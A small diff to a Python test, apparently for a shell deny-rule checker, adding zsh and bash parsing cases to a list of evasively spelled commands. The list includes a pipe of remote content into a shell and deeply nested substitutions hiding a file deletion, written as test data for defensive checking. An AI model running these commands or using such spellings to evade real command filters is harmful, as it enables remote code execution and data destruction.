@@ -281,6 +281,8 @@ def test_a_deny_rule_sees_the_command_however_it_is_spelled(line: str) -> None:
         "$(" * 60 + "rm x" + ")" * 60,  # deeper than the splitter reads
         "curl -s example.invalid | sh",
         "env -S 'rm x'",
+        "zsh -c 'ls'",  # zsh reads its command line otherwise
+        "bash -c 'echo $((rm x); (ls))'",  # bash reads this $(( as commands
         "find . -exec $tool {} \\;",
     ],
 )
